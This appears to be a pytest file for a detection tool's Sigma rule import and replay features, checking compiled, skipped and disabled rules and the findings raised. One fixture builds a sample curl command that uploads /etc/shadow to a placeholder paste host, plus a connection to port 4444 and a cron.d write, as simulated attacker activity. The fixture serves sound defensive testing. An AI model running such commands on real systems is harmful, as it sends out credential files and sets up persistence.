"""`vigil sigma import|list` and the imported rules in `vigil replay`.

GIVEN Sigma rules written for these tests (tests/data/sigma: one per supported category, one per
reason a rule is skipped), WHEN imported with pySigma, THEN the supported ones compile, the others
are reported with their reason, a rule that fires on the recorded benign corpus is kept but
disabled, and the enabled rules raise findings in `vigil replay`.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from guardduty_shape import validate
from typer.testing import CliRunner

from vigil import sample as s
from vigil import sigma as vs
from vigil import wire
from vigil_cli.main import app

pytest.importorskip("sigma")

ROOT = Path(__file__).resolve().parents[2]
RULES = ROOT / "tests" / "data" / "sigma"
BENIGN = ROOT / "benchmarks" / "corpus" / "benign.ndjson.gz"
HOST = wire.Host(instance_id="i-0e0e1a4000000001a", account_id="123456789012", region="eu-west-1")


def run(args: list[str]):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(app, args)


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("sigma") / "bundle.json"
    res = run(["sigma", "import", str(RULES), "--out", str(out), "--benign", str(BENIGN)])
    assert res.exit_code == 0, res.output
    return out


def test_import_compiles_the_supported_rules_and_says_why_not_the_others(bundle: Path) -> None:
    b = vs.decode_bundle(bundle.read_bytes())
    ids = {r.id[-2:]: r for r in b.rules}
    assert set(ids) == {"01", "02", "03", "04"}  # process_creation x2, file_event, network_connection
    assert b.benign_events > 50_000
    curl = ids["01"]
    assert curl.category == "process_creation" and curl.level == "high" and curl.enabled
    assert vs.finding_type(curl) == "Exfiltration:Runtime/SigmaRule"
    assert curl.source == "proc_curl_paste.yml"
    # the noisy rule matched the benign corpus: kept, disabled, with its rate
    noisy = ids["04"]
    assert not noisy.enabled and noisy.benign_hits > 0 and "per 10k" in noisy.disabled_reason
    listed = run(["sigma", "list", "--bundle", str(bundle)])
    assert listed.exit_code == 0 and "4 rules, 3 enabled" in listed.stdout


def test_import_reports_each_skipped_rule_with_its_reason(tmp_path: Path) -> None:
    res = run(["sigma", "import", str(RULES), "--out", str(tmp_path / "b.json"), "--no-benign"])
    assert res.exit_code == 0, res.output
    out = res.stdout
    assert "service=auditd" in out  # a log source Vigil does not have
    assert "field LogonId" in out  # a field Vigil's events do not carry
    assert "not a Sigma rule" in out  # broken YAML
    assert "7 files, 4 rules compiled (4 enabled, 0 disabled" in out and "3 skipped" in out


def test_import_bad_arguments_are_errors_not_tracebacks(tmp_path: Path) -> None:
    res = run(["sigma", "import", str(tmp_path / "nope")])
    assert res.exit_code == 2 and "no such file" in res.output and "Traceback" not in res.output
    bad = tmp_path / "bad.json"
    bad.write_bytes(b'{"format":"something else","rules":[]}')
    res = run(["sigma", "list", "--bundle", str(bad)])
    assert res.exit_code == 2 and "bundle format" in res.output
    res = run(["replay", str(tmp_path / "x.ndjson"), "--sigma", str(bad)])
    assert res.exit_code == 2 and "Traceback" not in res.output


def _events() -> list[bytes]:
    shell = s.proc("/bin/bash", parent=s.proc("/usr/sbin/sshd", pid=900, uid=0))
    curl = s.proc("/usr/bin/curl", "-F", "f=@/etc/shadow", "https://paste.example.invalid/", parent=shell)
    py = s.proc("/usr/bin/python3", "-c", "...", parent=shell)
    evs: list[wire.WireEvent] = [
        wire.ProcessExec(time=s.T0 + 1, seq=1, host=HOST, process=curl),
        wire.NetConnect(time=s.T0 + 2, seq=2, process=py, remote_ip="198.51.100.9", remote_port=4444),
        wire.NetConnect(time=s.T0 + 3, seq=3, process=py, remote_ip="127.0.0.1", remote_port=4444),
        wire.FileWrite(time=s.T0 + 4, seq=4, process=shell, path="/etc/cron.d/job"),
    ]
    return [wire.encode_event(e) for e in evs]


def test_imported_rules_raise_findings_in_replay(bundle: Path, tmp_path: Path) -> None:
    f = tmp_path / "events.ndjson"
    f.write_bytes(b"\n".join(_events()) + b"\n")
    res = run(["replay", str(f), "--sigma", str(bundle)])
    assert res.exit_code == 0, res.output
    docs = [json.loads(line) for line in res.stdout.splitlines() if line.startswith("{")]
    sigma = {
        json.loads(d["service"]["additionalInfo"]["value"])["sigma"]["id"][-2:]: d
        for d in docs
        if "sigma" in d["service"]["additionalInfo"]["value"]
    }
    assert set(sigma) == {"01", "02", "03"}  # the loopback connect is filtered; the noisy rule is off
    assert sigma["03"]["type"] == "CommandAndControl:Runtime/SigmaRule"
    assert sigma["02"]["type"] == "Persistence:Runtime/SigmaRule" and sigma["02"]["severity"] == 5.0
    assert all(validate(d) == [] for d in docs)
    plain = run(["replay", str(f), "--no-sigma"])
    assert "SigmaRule" not in plain.stdout
